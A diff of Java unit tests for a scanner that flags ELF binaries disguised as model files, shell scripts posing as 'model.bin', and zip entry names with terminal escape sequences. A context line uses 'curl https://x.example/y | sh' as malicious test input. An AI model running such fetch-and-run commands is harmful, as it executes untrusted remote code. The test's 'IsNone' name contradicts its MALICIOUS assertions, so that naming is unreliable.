@@ -204,6 +204,28 @@ class ContainersScanTest {
         assertThat(program("curl https://x.example/y | sh").verdict()).isEqualTo(Verdict.MALICIOUS);
     }
 
+    @Test
+    void aProgramOrScriptNamedLikeAModelIsNone() {
+        byte[] elf = new byte[4096];
+        System.arraycopy(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0}, 0, elf, 0, 8);
+        for (String name : new String[] {"w.safetensors", "a.onnx", "config.json", "m.gguf"}) {
+            assertThat(Scans.scan(name, elf).verdict()).as(name).isEqualTo(Verdict.MALICIOUS);
+        }
+        byte[] script = "#!/bin/sh\nls\n".getBytes(StandardCharsets.UTF_8);
+        assertThat(Scans.scan("model.bin", script).verdict()).isEqualTo(Verdict.SUSPICIOUS);
+        assertThat(Scans.scan("list.sh", script).verdict()).isEqualTo(Verdict.CLEAN);
+    }
+
+    @Test
+    void namesThatSteerTerminalsAreSuspicious() {
+        for (String name : new String[] {"a\u001b[2Jx", "a\b\b\bz"}) {
+            byte[] zip = Scans.zip(Map.of(name, new byte[] {1}));
+            assertThat(Scans.scan("m.zip", zip).findings())
+                    .extracting("rule")
+                    .contains("archive-escapes-its-folder");
+        }
+    }
+
     private static FileReport program(String text) {
         byte[] program = new byte[4096];
         System.arraycopy(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0}, 0, program, 0, 8);
